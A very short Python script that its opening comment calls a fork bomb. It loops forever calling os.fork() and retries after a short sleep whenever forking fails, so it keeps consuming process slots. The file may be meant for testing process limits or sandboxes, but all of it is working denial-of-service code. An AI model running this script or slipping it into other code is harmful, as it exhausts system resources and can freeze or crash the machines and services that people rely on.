# A fork bomb: every process starts others for as long as there is room for more.
from common import *

import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
